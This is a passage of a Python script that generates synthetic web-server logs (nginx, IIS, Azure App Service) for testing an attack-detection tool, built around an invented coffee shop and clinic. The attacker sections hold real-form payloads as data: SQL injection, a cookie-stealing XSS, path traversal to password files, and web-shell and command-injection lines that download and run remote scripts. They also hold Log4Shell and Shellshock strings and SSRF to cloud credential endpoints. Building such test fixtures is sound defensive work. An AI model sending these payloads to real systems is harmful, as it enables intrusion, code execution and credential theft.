#!/usr/bin/env python3
"""Regenerates the sample logs under samples/ (deterministic: fixed seed, fixed story).

    python3 tools/make-samples.py            # rewrites samples/{nginx,iis,appservice,bad}/...

Everything here is invented: the shop, the hosts and the attack story. Attacker and visitor
addresses come from the documentation ranges (RFC 5737: 192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24); crawlers use their published ranges. It prints where each attacker's lines
are so samples/README.md can be kept in step.
"""
import datetime as dt
import gzip
import io
import json
import os
import random

HERE = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "samples")
R = random.Random(20261114)

CHROME_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"
CHROME_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
EDGE_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80"
FIREFOX_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"
FIREFOX_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0"
SAFARI_IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"
SAFARI_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15"
CHROME_ANDROID = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36"
SAMSUNG = "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36"
BROWSERS = [CHROME_WIN, CHROME_WIN, CHROME_MAC, EDGE_WIN, FIREFOX_LINUX, FIREFOX_WIN, SAFARI_IPHONE,
            SAFARI_IPHONE, SAFARI_MAC, CHROME_ANDROID, CHROME_ANDROID, SAMSUNG]
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
GOOGLEBOT_SP = ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/130.0.6723.116 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
AHREFS = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
UPTIME = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"

# ----------------------------------------------------------------------------------------------
# nginx: a small WordPress/WooCommerce coffee shop, shop.hollowoak.example, 14 Nov 2026
# ----------------------------------------------------------------------------------------------
SITE = "https://shop.hollowoak.example"
PAGES = [("/", 48211), ("/shop/", 61877), ("/product/ethiopia-yirgacheffe-250g/", 57302),
         ("/product/house-espresso-1kg/", 56980), ("/product/hario-v60-dripper/", 55410),
         ("/product-category/beans/", 59133), ("/product-category/equipment/", 52764),
         ("/blog/", 39120), ("/blog/how-to-select-the-right-grinder/", 44871),
         ("/blog/cold-brew-at-home/", 42055), ("/about/", 31244), ("/contact/", 29870),
         ("/cart/", 35522)]
ASSETS = [("/wp-content/themes/storefront/style.css?ver=4.6.0", 62310, "text"),
          ("/wp-content/plugins/woocommerce/assets/css/woocommerce.css?ver=9.4.1", 81562, "text"),
          ("/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", 87553, "text"),
          ("/wp-content/themes/storefront/assets/js/navigation.min.js?ver=4.6.0", 2041, "text"),
          ("/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js?ver=9.4.1", 3390, "text"),
          ("/wp-content/uploads/2026/09/logo-hollow-oak.png", 18422, "img"),
          ("/wp-content/uploads/2026/10/yirgacheffe-600x600.jpg", 64118, "img"),
          ("/wp-content/uploads/2026/10/house-espresso-600x600.jpg", 59707, "img"),
          ("/wp-content/uploads/2026/08/v60-dripper-300x300.webp", 14226, "img")]
SEARCH_REFS = ["https://www.google.com/", "https://www.google.com/", "https://duckduckgo.com/",
               "https://www.bing.com/", "-", "-", "https://www.instagram.com/", "https://t.co/x7Qm2kLp0a"]


def nginx_escape(s):
    """nginx's default log escaping: '"', '\\' and bytes outside 0x20..0x7e become \\xHH."""
    out = []
    try:
        data = s.encode("latin-1")  # raw request bytes (the TLS hello below) are kept byte for byte
    except UnicodeEncodeError:
        data = s.encode("utf-8")
    for b in data:
        if b == 0x22 or b == 0x5C or b < 0x20 or b > 0x7E:
            out.append("\\x%02X" % b)
        else:
            out.append(chr(b))
    return "".join(out)


def clf_time(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S +0000")


class NginxLog:
    def __init__(self):
        self.entries = []  # (time, seq, ip, line, tag)
        self.seq = 0

    def add(self, t, ip, method, target, status, size, ref="-", ua="-", tag="normal", proto="HTTP/1.1",
            raw_request=None):
        request = raw_request if raw_request is not None else f"{method} {target} {proto}"
        line = (f'{ip} - - [{clf_time(t)}] "{nginx_escape(request)}" {status} {size} '
                f'"{nginx_escape(ref)}" "{nginx_escape(ua)}"')
        self.seq += 1
        self.entries.append((t, self.seq, ip, line, tag))

    def lines(self):
        return sorted(self.entries, key=lambda e: (e[0], e[1]))


def visitor_ip():
    return R.choice(["198.51.100.", "192.0.2."]) + str(R.randint(20, 250))


def browse_session(log, t, ip, ua, returning):
    """A visitor: a landing page, its assets (304 when cached), maybe a few more pages."""
    page, size = R.choice(PAGES)
    ref = R.choice(SEARCH_REFS)
    n_pages = R.choice([1, 1, 2, 2, 3])
    for i in range(n_pages):
        log.add(t, ip, "GET", page, 200, size + R.randint(-400, 400), ref, ua)
        t += dt.timedelta(seconds=R.randint(0, 1))
        if i == 0:
            for asset, asz, _ in R.sample(ASSETS, R.randint(3, 6)):
                if returning:
                    log.add(t, ip, "GET", asset, 304, 0, SITE + page, ua)
                else:
                    log.add(t, ip, "GET", asset, 200, asz, SITE + page, ua)
            if R.random() < 0.3:
                log.add(t, ip, "POST", "/?wc-ajax=get_refreshed_fragments", 200, 1873, SITE + page, ua)
        ref = SITE + page
        t += dt.timedelta(seconds=R.randint(8, 90))
        page, size = R.choice(PAGES)
    if R.random() < 0.15:
        log.add(t, ip, "GET", "/apple-touch-icon.png", 404, 153, "-", ua)
    if R.random() < 0.1:
        log.add(t, ip, "POST", "/wp-json/wc/store/v1/cart/add-item?id=412&quantity=1", 201, 2960, SITE + "/product/house-espresso-1kg/", ua)
        log.add(t + dt.timedelta(seconds=4), ip, "GET", "/cart/", 200, 35987, SITE + "/product/house-espresso-1kg/", ua)


def make_nginx():
    log = NginxLog()
    start = dt.datetime(2026, 11, 14, 6, 0, 3)
    end = dt.datetime(2026, 11, 14, 10, 30, 0)

    # Uptime monitor every 5 minutes.
    t = start
    while t < end:
        log.add(t, "192.0.2.9", "HEAD", "/", 200, 0, "https://shop.hollowoak.example", UPTIME)
        t += dt.timedelta(minutes=5, seconds=R.randint(-2, 2))
    # WordPress pseudo-cron, from the server itself.
    t = start + dt.timedelta(minutes=3)
    while t < end:
        log.add(t, "127.0.0.1", "POST", f"/wp-cron.php?doing_wp_cron={int(t.replace(tzinfo=dt.timezone.utc).timestamp())}.{R.randint(1000000,9999999)}", 200, 31,
                "-", "WordPress/6.7.1; https://shop.hollowoak.example")
        t += dt.timedelta(minutes=R.randint(18, 30))
    # Crawlers.
    t = start + dt.timedelta(minutes=1)
    crawl_paths = ["/robots.txt", "/sitemap_index.xml", "/product-sitemap.xml", "/post-sitemap.xml"] + [p for p, _ in PAGES]
    while t < end:
        bot = R.choice([(GOOGLEBOT, "66.249.66."), (GOOGLEBOT_SP, "66.249.66."), (BINGBOT, "40.77.167."), (AHREFS, "54.36.148.")])
        path = R.choice(crawl_paths)
        status, size = (200, R.randint(800, 60000))
        if R.random() < 0.08:
            path, status, size = "/product/winter-blend-2025/", 404, 12077
        if R.random() < 0.06:
            path, status, size = "/shop", 301, 169
        log.add(t, bot[1] + str(R.randint(2, 240)), "GET", path, status, size, "-", bot[0])
        t += dt.timedelta(seconds=R.randint(180, 600))
    # Visitors.
    t = start + dt.timedelta(minutes=2)
    while t < end:
        browse_session(log, t, visitor_ip(), R.choice(BROWSERS), R.random() < 0.35)
        t += dt.timedelta(seconds=R.randint(300, 700))

    # The shop owner: logs in normally, works in wp-admin, sends the test request.
    owner, ua = "198.51.100.10", CHROME_MAC
    t = dt.datetime(2026, 11, 14, 6, 41, 12)
    log.add(t, owner, "GET", "/wp-login.php", 200, 4417, "-", ua)
    log.add(t + dt.timedelta(seconds=9), owner, "POST", "/wp-login.php", 302, 0, SITE + "/wp-login.php", ua)
    log.add(t + dt.timedelta(seconds=10), owner, "GET", "/wp-admin/", 200, 61204, SITE + "/wp-login.php", ua)
    log.add(t + dt.timedelta(seconds=40), owner, "GET", "/wp-admin/edit.php?post_type=shop_order", 200, 88312, SITE + "/wp-admin/", ua)
    log.add(t + dt.timedelta(seconds=95), owner, "POST", "/wp-admin/admin-ajax.php", 200, 58, SITE + "/wp-admin/edit.php?post_type=shop_order", ua)
    log.add(t + dt.timedelta(seconds=155), owner, "POST", "/wp-admin/admin-ajax.php", 200, 58, SITE + "/wp-admin/edit.php?post_type=shop_order", ua)
    log.add(dt.datetime(2026, 11, 14, 6, 52, 30), owner, "GET", "/This_Will_Generate_Vigil_Alert", 404, 12077, "-", "curl/8.5.0", tag="owner-test")
    log.add(dt.datetime(2026, 11, 14, 9, 58, 2), owner, "GET", "/This_Will_Generate_Vigil_Alert/", 404, 12077, "-", "curl/8.5.0", tag="owner-test")

    # Benign look-alikes (must not alert).
    la = [("/?s=O'Reilly", 200, 27655), ("/?s=O%27Reilly+coffee+book", 200, 27702),
          ("/blog/how-to-select-the-right-grinder/", 200, 44871),
          ("/product/house-espresso-1kg/?utm_campaign=nov&utm_content=%3Cb%3Enew%3C%2Fb%3E", 200, 57011),
          ("/wp-json/wc/store/v1/products?per_page=12&orderby=date&order=desc", 200, 24190),
          ("/?s=union+square+roasters", 200, 26111)]
    t = dt.datetime(2026, 11, 14, 7, 31, 40)
    for p, st, sz in la:
        log.add(t, "192.0.2.145", "GET", p, st, sz, SITE + "/", FIREFOX_WIN, tag="lookalike")
        t += dt.timedelta(seconds=R.randint(15, 60))
    # Two protocol oddities every public nginx sees.
    log.add(dt.datetime(2026, 11, 14, 8, 3, 19), "192.0.2.201", None, None, 400, 0, "-", "-", raw_request="-", tag="noise")
    log.add(dt.datetime(2026, 11, 14, 8, 3, 20), "192.0.2.201", None, None, 400, 157, "-", "-",
            raw_request="\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", tag="noise")

    # ---- Attacker A: 203.0.113.45, scanners then injection by hand (07:12 - 07:58) ----
    a = "203.0.113.45"
    t = dt.datetime(2026, 11, 14, 7, 12, 5)
    nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%s)"
    nikto_paths = ["/", "/robots.txt", "/admin/", "/cgi-bin/test.cgi", "/phpinfo.php", "/.env", "/.git/config",
                   "/wp-config.php.bak", "/wp-config.php~", "/backup.sql", "/db.sql", "/.DS_Store", "/server-status",
                   "/test.php", "/info.php", "/admin.php", "/.htaccess", "/config.php.bak", "/phpmyadmin/",
                   "/cgi-bin/printenv", "/.aws/credentials", "/debug.log", "/wp-content/debug.log"]
    for i, p in enumerate(nikto_paths):
        status, size = 404, 12077
        if p == "/":
            status, size = 200, 48211
        elif p == "/robots.txt":
            status, size = 200, 67
        elif p == "/phpinfo.php":
            status, size = 200, 94210   # a forgotten phpinfo page: the probe worked
        elif p in ("/.htaccess", "/server-status"):
            status, size = 403, 153
        log.add(t, a, "GET", p, status, size, "-", nikto % ("%06d" % (R.randint(1, 9999))), tag="A-nikto")
        if i % 3 == 2:
            t += dt.timedelta(seconds=1)
    t += dt.timedelta(minutes=4)
    for p in ["/admin", "/backup", "/backups", "/old", "/dev", "/staging", "/tmp", "/uploads", "/private", "/db",
              "/sql", "/api/v1", "/console", "/vendor", "/storage", "/logs", "/install", "/setup", "/wp-admin",
              "/wp-content", "/wp-includes"]:
        status, size = 404, 12077
        if p in ("/wp-admin", "/wp-content", "/wp-includes"):
            status, size = 301, 169
        log.add(t, a, "GET", p, status, size, "-", "gobuster/3.6", tag="A-gobuster")
        t += dt.timedelta(seconds=R.choice([0, 0, 1]))
    t += dt.timedelta(minutes=6)
    nuclei = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
    for p, st, sz in [("/.git/config", 404, 12077), ("/.env", 404, 12077), ("/.env.production", 404, 12077),
                      ("/wp-config.php.bak", 404, 12077), ("/wp-json/wp/v2/users", 200, 1311),
                      ("/xmlrpc.php", 405, 42), ("/readme.html", 200, 7409), ("/wp-content/plugins/woocommerce/readme.txt", 200, 23081)]:
        log.add(t, a, "GET", p, st, sz, "-", nuclei, tag="A-nuclei")
        t += dt.timedelta(seconds=1)
    t += dt.timedelta(minutes=5)
    sqlmap = "sqlmap/1.8.11#stable (https://sqlmap.org)"
    pref = SITE + "/product/"
    for q, st, sz in [("id=412", 200, 56980),
                      ("id=412'", 500, 3120),
                      ("id=1'+OR+'1'='1", 200, 56980),
                      ("id=1%27%20OR%20%271%27%3D%271", 200, 56980),
                      ("id=412%20AND%201%3D1", 200, 56980),
                      ("id=412%20AND%201%3D2", 200, 11904),
                      ("id=412%20ORDER%20BY%2010--%20-", 500, 3120),
                      ("id=-9518%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71786a7671%2CIFNULL%28CAST%28user_login%20AS%20CHAR%29%2C0x20%29%2C0x71627a7071%29%2CNULL--%20-", 200, 57230),
                      ("id=412%27%29%20AND%20SLEEP%285%29%20AND%20%28%27xKqp%27%3D%27xKqp", 200, 56980),
                      ("id=412%2520UNION%2520SELECT%2520user_pass%2520FROM%2520wp_users--", 200, 11904)]:
        log.add(t, a, "GET", "/?post_type=product&" + q, st, sz, pref, sqlmap, tag="A-sqli")
        t += dt.timedelta(seconds=R.randint(1, 6))
    # A raw, unencoded injection: nginx 1.21.1+ rejects spaces in the request line with 400.
    log.add(t, a, None, None, 400, 157, "-", "-", raw_request="GET /?post_type=product&id=1' OR '1'='1 HTTP/1.1", tag="A-sqli")
    t += dt.timedelta(minutes=3)
    browser = FIREFOX_LINUX
    for p, st, sz in [("/?s=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E", 200, 26230),
                      ('/?s="><svg/onload=alert(1)>', 200, 26301),
                      ("/?s=%3Cimg%20src%3Dx%20onerror%3Dfetch('//203.0.113.45/c?'%2Bdocument.cookie)%3E", 200, 26190),
                      ("/product/house-espresso-1kg/?utm_source=javascript:alert(1)//", 200, 56980),
                      ("/wp-admin/admin-ajax.php?action=download_file&file=../../../../etc/passwd", 400, 1),
                      ("/wp-admin/admin-ajax.php?action=download_file&file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", 400, 1),
                      ("/wp-content/plugins/wp-file-manager/download.php?path=..%252f..%252f..%252fwp-config.php", 404, 12077),
                      ("/index.php?page=....//....//....//etc/shadow", 200, 48211),
                      ("/index.php?page=http://203.0.113.200/x/sh.txt?", 200, 48211),
                      ("/?cat=../../../../proc/self/environ%00", 404, 12077)]:
        log.add(t, a, "GET", p, st, sz, SITE + "/", browser, tag="A-manual")
        t += dt.timedelta(seconds=R.randint(5, 40))

    # ---- Attacker B: 203.0.113.77, brute force, then a web shell (08:20 - 09:14) ----
    b, bua = "203.0.113.77", CHROME_WIN
    t = dt.datetime(2026, 11, 14, 8, 20, 11)
    log.add(t, b, "GET", "/wp-login.php", 200, 4417, "-", bua, tag="B-brute")
    for i in range(26):
        t += dt.timedelta(seconds=R.randint(2, 5))
        log.add(t, b, "POST", "/wp-login.php", 200, 4603, SITE + "/wp-login.php", bua, tag="B-brute")
    t += dt.timedelta(seconds=3)
    log.add(t, b, "POST", "/wp-login.php", 302, 0, SITE + "/wp-login.php", bua, tag="B-brute")
    t += dt.timedelta(seconds=1)
    log.add(t, b, "GET", "/wp-admin/", 200, 60877, SITE + "/wp-login.php", bua, tag="B-admin")
    t += dt.timedelta(seconds=21)
    log.add(t, b, "GET", "/wp-admin/media-new.php", 200, 39410, SITE + "/wp-admin/", bua, tag="B-admin")
    t += dt.timedelta(seconds=14)
    log.add(t, b, "POST", "/wp-admin/async-upload.php", 200, 412, SITE + "/wp-admin/media-new.php", bua, tag="B-upload")
    shell = "/wp-content/uploads/2026/11/thumb-cache.php"
    t += dt.timedelta(seconds=35)
    for q, sz in [("cmd=whoami", 9), ("cmd=id", 54), ("cmd=uname+-a", 112), ("cmd=cat+../../../wp-config.php", 3561),
                  ("cmd=wget+http://203.0.113.200/x/kx.sh+-O+/tmp/.kx", 0), ("cmd=chmod+%2Bx+/tmp/.kx%3B/tmp/.kx", 0),
                  ("cmd=ps+aux", 8891)]:
        log.add(t, b, "GET", shell + "?" + q, 200, sz, "-", bua, tag="B-shell")
        t += dt.timedelta(seconds=R.randint(8, 45))
    t += dt.timedelta(minutes=20)
    log.add(t, b, "POST", shell, 200, 41, "-", bua, tag="B-shell")
    t += dt.timedelta(seconds=50)
    for p in ["/wp-admin/admin-ajax.php?action=wpsc_ping&host=127.0.0.1;id",
              "/wp-admin/admin-ajax.php?action=wpsc_ping&host=127.0.0.1|wget%20http://203.0.113.200/x/kx.sh%20-O-|sh",
              "/wp-admin/admin-ajax.php?action=wpsc_ping&host=%24(curl%20-s%20http://203.0.113.200/x/b64|base64%20-d|sh)",
              "/wp-admin/admin-ajax.php?action=wpsc_ping&host=`id`"]:
        log.add(t, b, "GET", p, 400, 1, SITE + "/wp-admin/", bua, tag="B-cmdi")
        t += dt.timedelta(seconds=R.randint(3, 12))

    # ---- Attacker C: 203.0.113.199, mass-exploitation bot (09:31 - 09:40) ----
    c = "203.0.113.199"
    t = dt.datetime(2026, 11, 14, 9, 31, 2)
    for p, ua, st, sz in [
            ("/", "${jndi:ldap://203.0.113.199:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMjAzLjAuMTEzLjIwMC94L2t4LnNo}", 200, 48211),
            ("/?x=${jndi:ldap://203.0.113.199:1389/a}", "Mozilla/5.0 ${${lower:j}${::-n}di:rmi://203.0.113.199:1099/o}", 200, 48211),
            ("/cgi-bin/status", '() { :; }; echo; /bin/bash -c "wget -qO- http://203.0.113.200/x/kx.sh | sh"', 404, 12077),
            ("/cgi-bin/test-cgi", "() { ignored; }; /bin/cat /etc/passwd", 404, 12077),
            ("/wp-json/oembed/1.0/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", CHROME_WIN, 404, 93),
            ("/wp-json/oembed/1.0/proxy?url=http%3A%2F%2F169.254.169.254%2Fmetadata%2Finstance%3Fapi-version%3D2021-02-01", CHROME_WIN, 404, 93),
            ("/wp-admin/admin-ajax.php?action=fetch_feed&url=file:///etc/passwd", CHROME_WIN, 400, 1),
            ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", 200, 48211),
            ("/index.php?allow_url_include=1&auto_prepend_file=php://input", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", 200, 48211),
            ("/wp-content/uploads/wso.php", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", 404, 12077),
            ("/wp-content/plugins/hello.php?cmd=id", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", 404, 12077),
            ("/?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)", "Mozilla/5.0 ' OR 1=1-- -", 200, 48211)]:
        meth = "POST" if "php://input" in p else "GET"
        log.add(t, c, meth, p, st, sz, "-", ua, tag="C-bot")
        t += dt.timedelta(seconds=R.randint(20, 60))

    rows = log.lines()
    path = os.path.join(HERE, "nginx", "access.log")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="ascii", newline="\n") as f:
        for r in rows:
            f.write(r[3] + "\n")
    report("nginx/access.log", rows)


def report(name, rows):
    spans = {}
    for n, r in enumerate(rows, 1):
        tag = r[4]
        if tag == "normal":
            continue
        spans.setdefault(tag, []).append(n)
    print(f"{name}: {len(rows)} lines")
    for tag, ns in spans.items():
        print(f"  {tag:12s} lines {ns[0]}-{ns[-1]} ({len(ns)} lines)")


# ----------------------------------------------------------------------------------------------
# IIS: an ASP.NET appointment-booking app, 15 Nov 2026
# ----------------------------------------------------------------------------------------------
IIS_FIELDS = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
IIS_FIELDS2 = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) cs-host sc-status sc-substatus sc-win32-status time-taken"
IIS_SITE = "https://book.riverbend-clinic.example"
IIS_PAGES = ["/", "/Doctors", "/Doctors/Details/12", "/Doctors/Details/7", "/Appointments/Book", "/Appointments/Mine",
             "/Home/About", "/Home/Contact", "/Account/Login"]
IIS_ASSETS = ["/Content/bootstrap.min.css", "/Content/Site.css", "/Scripts/jquery-3.7.1.min.js",
              "/Scripts/bootstrap.bundle.min.js", "/Scripts/app/booking.js", "/images/logo.svg", "/favicon.ico"]


def w3c(v):
    if v is None or v == "":
        return "-"
    return v.replace(" ", "+")


def make_iis():
    rows = []  # (time, seq, ip, line-or-header, tag)
    seq = [0]
    s_ip = "10.20.1.4"

    def add(t, method, stem, query, ip, ua, ref, status, sub=0, win32=0, taken=None, tag="normal", user="-", host=None):
        taken = taken if taken is not None else R.randint(15, 180)
        parts = [t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), s_ip, method, stem, w3c(query), "443", user, ip, w3c(ua), w3c(ref)]
        if host is not None:
            parts.append(host)
        parts += [str(status), str(sub), str(win32), str(taken)]
        seq[0] += 1
        rows.append((t, seq[0], ip, " ".join(parts), tag))

    restart = dt.datetime(2026, 11, 15, 11, 2, 40)
    host = "book.riverbend-clinic.example"

    def h(t):
        return host if t >= restart else None

    start = dt.datetime(2026, 11, 15, 8, 0, 4)
    end = dt.datetime(2026, 11, 15, 13, 0, 0)
    t = start
    while t < end:
        ip = "198.51.100." + str(R.randint(30, 240))
        ua = R.choice(BROWSERS)
        page = R.choice(IIS_PAGES)
        add(t, "GET", page, None, ip, ua, R.choice(["https://www.google.com/", "-", IIS_SITE + "/"]), 200, host=h(t))
        for a in R.sample(IIS_ASSETS, R.randint(1, 3)):
            add(t, "GET", a, None, ip, ua, IIS_SITE + page, R.choice([200, 304, 304]), host=h(t))
        if page == "/Appointments/Book" and R.random() < 0.6:
            t2 = t + dt.timedelta(seconds=R.randint(5, 40))
            add(t2, "GET", "/api/slots", f"doctorId={R.choice([7, 12, 15])}&date=2026-11-{R.randint(17, 28)}", ip, ua, IIS_SITE + page, 200, host=h(t2))
            add(t2 + dt.timedelta(seconds=20), "POST", "/Appointments/Book", None, ip, ua, IIS_SITE + page, 302, host=h(t2))
        if R.random() < 0.1:
            add(t, "GET", "/Doctors/Search", R.choice(["q=cardiology", "q=dr+o'neil", "q=skin+%26+allergy"]), ip, ua, IIS_SITE + "/Doctors", 200, host=h(t), tag="normal")
        t += dt.timedelta(seconds=R.randint(150, 420))
    # health probe from the load balancer
    t = start + dt.timedelta(seconds=30)
    while t < end:
        add(t, "GET", "/health", None, "10.20.0.4", "Load+Balancer+Agent", "-", 200, taken=R.randint(1, 4), host=h(t))
        t += dt.timedelta(minutes=10)

    a = "203.0.113.88"
    aua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36"
    t = dt.datetime(2026, 11, 15, 9, 44, 10)
    for stem, q, st, sub in [("/web.config", None, 404, 8), ("/trace.axd", None, 403, 0), ("/elmah.axd", None, 404, 0),
                             ("/App_Data/clinic.mdf", None, 404, 8), ("/web.config.bak", None, 404, 7),
                             ("/bin/RiverbendClinic.dll", None, 404, 8), ("/.git/config", None, 404, 0),
                             ("/swagger/index.html", None, 404, 0)]:
        add(t, "GET", stem, q, a, aua, "-", st, sub, 0, tag="A-probe")
        t += dt.timedelta(seconds=R.randint(1, 3))
    t = dt.datetime(2026, 11, 15, 10, 5, 31)
    for stem, q, st, taken in [("/Doctors/Details", "id=12'", 500, 211),
                               ("/Doctors/Details", "id=12'+AND+1=CONVERT(int,@@version)--", 500, 187),
                               ("/Doctors/Search", "q=x';WAITFOR+DELAY+'0:0:5'--", 200, 5043),
                               ("/Doctors/Search", "q=%27%20UNION%20SELECT%20name,password_hash%20FROM%20dbo.Users--", 500, 96),
                               ("/Doctors/Search", "q=<script>alert(1)</script>", 200, 88)]:
        add(t, "GET", stem, q, a, aua, IIS_SITE + "/Doctors", st, 0, 0, taken=taken, tag="A-sqli")
        t += dt.timedelta(seconds=R.randint(10, 50))
    for stem, q, st in [("/Download.aspx", "file=..\\..\\..\\..\\windows\\win.ini", 200),
                        ("/Download.aspx", "file=%2e%2e%5c%2e%2e%5c%2e%2e%5cinetpub%5cwwwroot%5cweb.config", 200),
                        ("/Download.aspx", "file=C:\\Windows\\System32\\drivers\\etc\\hosts", 200)]:
        add(t, "GET", stem, q, a, aua, "-", st, 0, 0, tag="A-traversal")
        t += dt.timedelta(seconds=R.randint(10, 30))
    # the operator checks the pipeline after the restart
    add(dt.datetime(2026, 11, 15, 11, 5, 12), "GET", "/This_Will_Generate_ASC_Alert", None, "198.51.100.12",
        "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.20348; en-US) PowerShell/7.4.6", "-", 404, 0, 2, host=host, tag="owner-test")
    t = dt.datetime(2026, 11, 15, 11, 38, 2)
    add(t, "GET", "/Account/Login", None, a, aua, "-", 200, host=host, tag="A-shell")
    add(t + dt.timedelta(seconds=14), "POST", "/Account/Login", None, a, aua, IIS_SITE + "/Account/Login", 302, host=host, tag="A-shell")
    add(t + dt.timedelta(seconds=40), "POST", "/Profile/UploadPhoto", None, a, aua, IIS_SITE + "/Profile", 200, host=host, tag="A-shell")
    t += dt.timedelta(seconds=70)
    for q in ["cmd=whoami", "cmd=ipconfig+/all", "cmd=net+user", "cmd=certutil+-urlcache+-split+-f+http://203.0.113.200/x/a.exe+C:\\Windows\\Temp\\a.exe",
              "cmd=dir+C:\\inetpub\\wwwroot"]:
        add(t, "GET", "/uploads/avatars/avatar_7731.aspx", q, a, aua, "-", 200, host=host, taken=R.randint(120, 900), tag="A-shell")
        t += dt.timedelta(seconds=R.randint(15, 60))

    rows.sort(key=lambda e: (e[0], e[1]))
    out = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
           "#Date: 2026-11-15 08:00:04", "#Fields: " + IIS_FIELDS]
    tags = ["header"] * 4
    restarted = False
    for r in rows:
        if not restarted and r[0] >= restart:
            out += ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
                    "#Date: " + restart.strftime("%Y-%m-%d %H:%M:%S"), "#Fields: " + IIS_FIELDS2]
            tags += ["header"] * 4
            restarted = True
        out.append(r[3])
        tags.append(r[4])
    path = os.path.join(HERE, "iis", "u_ex261115.log")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="ascii", newline="\r\n") as f:  # IIS writes CRLF
        for line in out:
            f.write(line + "\n")
    report("iis/u_ex261115.log", [(None, None, None, None, tg if tg != "header" else "header") for tg in tags])


# ----------------------------------------------------------------------------------------------
# Azure App Service HTTP logs, as diagnostic settings export them (JSON lines), 16 Nov 2026
# ----------------------------------------------------------------------------------------------
def make_appservice():
    rid = ("/SUBSCRIPTIONS/3F2B9C1E-7A44-4D1B-9E0C-5D6A8B2F1C70/RESOURCEGROUPS/RG-HOLLOWOAK-PROD"
           "/PROVIDERS/MICROSOFT.WEB/SITES/HOLLOWOAK-API")
    host = "hollowoak-api.azurewebsites.net"
    rows = []
    seq = [0]

    def add(t, method, stem, query, ip, ua, status, referer="", tag="normal", sc=None, cs=None, taken=None):
        props = {
            "CsHost": host, "CIp": f"{ip}:{R.randint(1025, 65000)}", "SPort": "443",
            "CsUriStem": stem, "CsUriQuery": query or "", "CsMethod": method,
            "TimeTaken": taken if taken is not None else R.randint(3, 240),
            "ScStatus": str(status), "ScSubStatus": "0", "ScWin32Status": "0",
            "Result": "Success" if status < 400 else "Failure",
            "CsBytes": str(cs if cs is not None else R.randint(380, 1400)),
            "ScBytes": str(sc if sc is not None else R.randint(180, 9000)),
            "UserAgent": ua, "Cookie": "-", "CsUsername": "", "Referer": referer,
            "ComputerName": R.choice(["lw1sdlwk0003M2", "lw1sdlwk0003M3"]),
        }
        rec = {"time": t.strftime("%Y-%m-%dT%H:%M:%S.") + "%07dZ" % R.randint(0, 9999999),
